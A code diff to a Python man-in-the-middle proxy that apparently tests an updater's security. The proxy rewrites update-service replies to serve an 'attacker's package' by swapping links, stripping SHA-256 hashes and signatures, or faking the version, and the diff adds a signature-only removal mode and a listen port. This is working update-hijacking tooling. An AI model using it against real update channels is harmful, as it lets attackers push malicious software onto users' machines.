@@ -1,7 +1,7 @@
 #!/usr/bin/env python3
 """A man in the middle between the program and its update service.
 
-    rewriting_proxy.py --upstream URL --package FILE --mode MODE
+    rewriting_proxy.py --upstream URL --package FILE --mode MODE [--listen PORT]
 
 Listens on 127.0.0.1 (prints "listening on http://127.0.0.1:PORT/"), passes
 every query on to the real service and rewrites each offer of its reply
@@ -13,6 +13,7 @@ proxy could; it also serves FILE, the attacker's own package, itself:
   same-name    the same, but the attacker's package is served under the
                genuine package's file name
   strip        the attacker's link and SHA-256, and no signature at all
+  unsigned     only the signature is taken away
   version      only the offered driver version is changed (to 99.0.0.0)
 
 Offers keep their size so that the program fetches the attacker's bytes.
@@ -30,7 +31,8 @@ def main():
     parser = argparse.ArgumentParser()
     parser.add_argument("--upstream", required=True)
     parser.add_argument("--package", required=True)
-    parser.add_argument("--mode", required=True, choices=["other-link", "same-name", "strip", "version"])
+    parser.add_argument("--mode", required=True, choices=["other-link", "same-name", "strip", "unsigned", "version"])
+    parser.add_argument("--listen", type=int, default=0)
     args = parser.parse_args()
     evil = open(args.package, "rb").read()
     evil_sha256 = hashlib.sha256(evil).hexdigest()
@@ -45,6 +47,8 @@ def main():
         def rewrite_item(self, item):
             if args.mode == "version":
                 return re.sub(rb"<ver>[^<]*</ver>", b"<ver>99.0.0.0</ver>", item)
+            if args.mode == "unsigned":
+                return re.sub(rb"\s*<minisig>[^<]*</minisig>", b"", item)
             link = re.search(rb"<link>([^<]*)</link>", item)
             name = link.group(1).rsplit(b"/", 1)[-1] if link else b"package.zip"
             if args.mode == "other-link":
@@ -80,7 +84,7 @@ def main():
             self.end_headers()
             self.wfile.write(evil)
 
-    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Proxy)
+    server = http.server.ThreadingHTTPServer(("127.0.0.1", args.listen), Proxy)
     print("listening on http://127.0.0.1:%d/" % server.server_address[1], flush=True)
     server.serve_forever()
 
